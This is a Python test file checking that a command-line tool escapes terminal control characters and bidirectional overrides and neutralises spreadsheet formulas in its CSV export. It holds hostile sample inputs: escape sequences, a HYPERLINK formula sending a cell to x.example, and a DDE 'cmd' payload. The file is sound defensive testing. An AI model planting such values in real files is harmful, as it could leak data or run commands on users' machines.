"""What the command prints and writes cannot be turned against its reader: no terminal escapes,
no spreadsheet formulas, no export over its own input."""

from __future__ import annotations

import csv
import io
import json
import os

from app.export.csv_export import csv_text
from app.model import load, loads, save
from app.model.templates import from_template

from test_cli import assert_one_line_error, oppspace

ESC_TITLE = "Kort \x1b]0;pwned\x07\x1b[2J\x9b31m"


def _hostile_map(tmp_path, name="kort\x1b[31m.oppspace"):
    doc = from_template("aalborg-aktiv")
    doc.meta.title = ESC_TITLE
    doc.activities[0].title = "Samtale\x1b[5m"
    path = tmp_path / name
    save(doc, path)
    return path


def test_check_escapes_control_characters_in_everything_it_prints(tmp_path):
    path = _hostile_map(tmp_path)
    result = oppspace("check", path)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\x07" not in result.stdout
    assert "Kort \\x1b]0;pwned\\x07" in result.stdout
    assert "kort\\x1b[31m.oppspace" in result.stdout


def test_check_json_stays_json_without_raw_control_characters(tmp_path):
    result = oppspace("check", _hostile_map(tmp_path), "--json")
    assert not any(ch in result.stdout for ch in "\x1b\x07\x9b")
    assert json.loads(result.stdout)["file"].endswith("kort\x1b[31m.oppspace")


def test_errors_escape_the_file_name(tmp_path):
    bad = tmp_path / "x\x1b[2J.oppspace"
    bad.write_text("{", encoding="utf-8")
    line = assert_one_line_error(oppspace("check", bad), "x\\x1b[2J.oppspace")
    assert "\x1b" not in line


def test_export_refuses_to_write_over_its_own_input(tmp_path):
    path = tmp_path / "m.oppspace"
    save(from_template("aalborg-aktiv"), path)
    before = path.read_bytes()
    link = tmp_path / "same.json"
    os.link(path, link)
    for out in (path, link):
        assert_one_line_error(oppspace("export", path, "-o", out, "--format", "json"),
                              "this export reads; give another output file")
    assert path.read_bytes() == before
    assert load(path).meta.title


FORMULAS = ['=HYPERLINK("http://x.example/?"&C2,"Click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tTab", "\rReturn"]


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_would_be_formulas_are_prefixed():
    doc = from_template("aalborg-aktiv")
    for flow, formula in zip(doc.flows, FORMULAS):
        flow.what = formula
    whats = [row[8] for row in _csv_cells(csv_text(doc))[1:len(FORMULAS) + 1]]
    assert whats == ["'" + f for f in FORMULAS]
    raw = [row[8] for row in _csv_cells(csv_text(doc, raw=True))[1:len(FORMULAS) + 1]]
    assert raw == FORMULAS


def test_cli_raw_csv_opts_out(tmp_path):
    doc = from_template("aalborg-aktiv")
    doc.flows[0].what = "=1+1"
    path = tmp_path / "m.oppspace"
    save(doc, path)
    for extra, cell in (((), "'=1+1"), (("--raw-csv",), "=1+1")):
        out = tmp_path / "flows.csv"
        result = oppspace("export", path, "-o", out, *extra)
        assert result.returncode == 0, result.stderr
        rows = _csv_cells(out.read_text(encoding="utf-8-sig"))
        assert rows[1][8] == cell


def test_plain_text_is_not_touched():
    doc = loads(json.dumps({"format": "oppspace", "version": 1, "actors": [{"id": "a", "name": "A"}],
                            "activities": [{"id": "s", "title": "S", "actor": "a"}],
                            "flows": [{"id": "f", "kind": "information", "source": "s",
                                       "target": "a", "what": "Ønsker = behov"}]}))
    assert _csv_cells(csv_text(doc))[1][8] == "Ønsker = behov"


def test_bidirectional_controls_are_printed_as_escapes_so_a_line_reads_as_it_is(tmp_path):
    """A title with U+202E (right-to-left override) would show the rest of the line reversed
    in a terminal ("Trojan Source"); check prints the escape instead, in text and JSON."""
    doc = from_template("aalborg-aktiv")
    doc.meta.title = "Kort \u202eexe.fdp\u202c og \u2066x\u2069"
    path = tmp_path / "kort\u200f.oppspace"
    save(doc, path)
    text = oppspace("check", path)
    assert text.returncode == 0, text.stderr
    assert not any(ch in text.stdout for ch in "\u202e\u202c\u2066\u2069\u200f")
    assert "Kort \\u202eexe.fdp\\u202c og \\u2066x\\u2069" in text.stdout
    assert "kort\\u200f.oppspace" in text.stdout
    as_json = oppspace("check", path, "--json")
    assert not any(ch in as_json.stdout for ch in "\u202e\u202c\u2066\u2069\u200f")
    assert json.loads(as_json.stdout)["file"].endswith("kort\u200f.oppspace")
